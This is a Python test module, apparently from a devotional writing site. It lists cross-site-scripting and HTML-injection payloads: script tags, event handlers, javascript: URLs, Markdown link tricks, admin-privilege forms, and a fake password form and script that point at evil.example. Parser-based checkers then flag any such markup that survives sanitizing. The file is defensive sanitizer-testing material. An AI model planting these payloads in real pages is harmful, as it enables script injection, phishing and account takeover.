"""A corpus of cross-site-scripting payloads, and a check that markup is inert.

Written here from the well-known families of attack: script elements, event handlers,
`javascript:` and other dangerous URLs (plain, mixed case, entity-, percent- and
whitespace-encoded), SVG and MathML, broken and nested markup, attribute break-outs,
Markdown link and image syntax, and template syntax. Every payload that can run calls
alert(), so a real browser shows a dialog if one gets through.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>>alert(1)<</script>>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script/xss src=data:,alert(1)></script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]
_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    "<p style=x onclick=alert(1)>click</p>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
]
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\x01javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
]
_MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    '[click](https://example.org "onmouseover=alert(1)")',
    '[click](https://example.org" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://example.org/" onmouseover="alert(1)>',
    "![x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    '![x](https://example.org/a.png"onerror="alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a](https://example.org){: onclick=alert(1)}",
    "*<img src=x onerror=alert(1)>*",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "<div markdown=1>[x](javascript:alert(1))</div>",
    '[x](#" onclick="alert(1))',
]
_SVG_AND_OTHER = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)>#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "{{ request.user.password }}{% debug %}",
    "${alert(1)}",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&#58;alert(1)>x</a>",
    "<x onclick=alert(1)>click",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "\u202e<script>alert(1)</script>",
]

# What an author's raw HTML could do without script: take over the page or the admin.
_AUTHOR_ONLY = [
    '<form action="/admin/auth/user/1/change/" method="post">'
    '<input type="hidden" name="is_superuser" value="on"><button>Save</button></form>',
    '<button type="submit" formaction="/admin/auth/user/2/change/" class="default">Save</button>',
    '<input type="hidden" name="is_staff" value="on">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="5">',
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in again</div>',
    '<div class="overlay modal-backdrop">Session expired</div>',
    '<form action="https://evil.example/collect"><label>Password <input type="password" '
    'name="password"></label><input type="submit" value="Sign in"></form>',
    '<a class="ref" href="https://evil.example/John/3/16" data-osis="John.3.16">John 3:16'
    '<span class="ref-preview" role="tooltip">For God so loved the world</span></a>',
    '<a href="https://evil.example/" class="button">Continue</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<dialog open>Your session has ended</dialog>",
    '<select name="x"><option>One</option></select><textarea name="y">z</textarea>',
    '<img src="x" srcset="javascript:alert(1) 1x" alt="x">',
    '<section class="section section-prayer" id="at-1">Forged part</section>',
    '<span id="ref-1">clobbered preview id</span><p id="main">clobbered</p>',
    '<div markdown="1"><form><input name="q"></form></div>',
    '<table><tr><td><form action="/x"><button>Go</button></form></td></tr></table>',
    "<details open><summary>More</summary><input autofocus></details>",
    "<h2>Prayer</h2>\n\n<p onmouseover=alert(1)>Amen</p>",
    "\ue000a\ue001 \ue010depth:study\ue011",
]
FORBIDDEN_ELEMENTS = {
    "form", "input", "button", "textarea", "select", "option", "label", "meta", "link", "base",
    "iframe", "frame", "frameset", "object", "embed", "dialog", "portal", "style", "script",
    "svg", "math", "template", "noscript",
}  # fmt: skip

PAYLOADS: list[str] = [
    *_SCRIPTS,
    *_HANDLERS,
    *(f"[link]({url})" for url in _URLS),
    *(f'<a href="{url}">link</a>' for url in _URLS),
    *_MARKDOWN,
    *_SVG_AND_OTHER,
]

DEVOTION_PAYLOADS: list[str] = [*PAYLOADS, *_AUTHOR_ONLY]

SAFE_SCHEMES = {"", "http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "xlink:href", "data", "srcdoc", "cite",
}  # fmt: skip


class _Inspector(HTMLParser):
    def __init__(self, allowed_scripts: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_scripts = allowed_scripts
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag in ("script", "iframe", "object", "embed", "svg", "math", "base", "style"):
            src = names.get("src") or ""
            if not (tag == "script" and src.startswith(self.allowed_scripts)):
                self.problems.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in names:
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "style":
                self.problems.append(f"<{tag} style=...>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = urlsplit("".join(value.split())).scheme.lower()
                if scheme not in SAFE_SCHEMES:
                    self.problems.append(f"<{tag} {name}={value!r}>")


class _Injected(HTMLParser):
    """Elements and attributes a writer's fragment must never carry, script or not."""

    def __init__(self, classes: set[str], ids: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.classes = classes
        self.ids = ids
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name == "class":
                strange = set((value or "").split()) - self.classes
                if strange:
                    self.problems.append(f"<{tag} class={' '.join(sorted(strange))}>")
            if name == "id" and not (value or "").startswith(self.ids):
                self.problems.append(f"<{tag} id={value}>")
            if name in ("style", "http-equiv", "formaction", "srcset", "autofocus"):
                self.problems.append(f"<{tag} {name}=...>")


def injected_markup(
    fragment: str, *, classes: set[str], ids: tuple[str, ...] = ("fn:", "fnref:")
) -> list[str]:
    """Everything in a writer's rendered `fragment` that could run script or pose as the
    page (form controls, refreshes, styles, classes other than `classes`); [] when clean."""
    inspector = _Injected(classes, ids)
    inspector.feed(fragment)
    inspector.close()
    return unsafe_markup(fragment) + inspector.problems


def unsafe_markup(html: str, *, allowed_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
    """Every element or attribute in `html` that could run script; [] when inert."""
    inspector = _Inspector(allowed_scripts)
    inspector.feed(html)
    inspector.close()
    return inspector.problems
